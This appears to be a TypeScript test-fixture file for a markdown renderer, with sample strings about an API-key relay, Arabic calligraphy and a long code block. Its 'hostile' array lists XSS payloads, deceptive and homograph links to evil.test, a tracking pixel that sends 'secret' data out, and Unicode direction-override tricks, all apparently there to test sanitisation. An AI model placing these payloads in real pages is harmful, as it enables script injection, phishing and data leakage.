export const rich = `## What a relay does

A relay keeps the **API key** on a server. The page talks to the relay, and the relay talks to *Together AI*.

1. The page sends the messages
2. The relay checks them:
   - the model is on a list
   - the body is not too large
3. It adds the key and streams the answer back

\`\`\`ts
import { createTogetherRelay } from 'together-react/relay'

export const POST = createTogetherRelay({ allowedModels: ['meta-llama/Llama-3.3-70B-Instruct-Turbo'], public: true })
\`\`\`

| Limit | Default | Counts per |
|:--|--:|:-:|
| \`bodyBytes\` | 8 MiB | request |
| \`maxTokens\` | 4,096 | request |
| \`perMinute\` | 60 | identity |

> Never put a key into a page: whoever opens it can read it.

See the [documentation](https://docs.together.ai/docs/quickstart), or ~~guess~~ ask.

- [x] Key on the server
- [ ] Limits set
`

export const arabic = `## الخط العربي

الخط العربي فن **كتابة** الحروف العربية، وقد تطور عبر القرون في مدن مثل بغداد والقاهرة وإسطنبول.

1. النسخ: يُستعمل في الكتب
2. الرقعة: للكتابة اليومية

> اقرأ المزيد في [الموسوعة](https://ar.wikipedia.org/wiki/خط_عربي).

\`\`\`js
console.log('مرحبا')
\`\`\`
`

export const hostile = [
  '<script>alert(1)</script> and <img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) [userinfo](https://bank.example@evil.test/) [relative](/logout)',
  '[https://bank.example/login](https://evil.test/) and [ok](https://xn--80ak6aa92e.com/)',
  '![a tracking pixel](https://evil.test/pixel.png?data=secret) ![inline](data:image/png;base64,AAAA)',
  'Reversed \u202Etxt.exe\u202C, as an entity &#x202E;txt.exe, tags \u{E0041}\u{E0042}, a flag 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '```js" onclick="alert(1)" class="fixed inset-0"\nlet a = 1\n```',
  `${'>'.repeat(200)} deep`,
].join('\n\n')

export const longCode = `\`\`\`python
${Array.from({ length: 12 }, (_, line) => `result_${line} = compute_something_with_a_long_name(argument_${line}, another_argument=${line * 7}, verbose=True, retries=${line})`).join('\n')}
\`\`\``
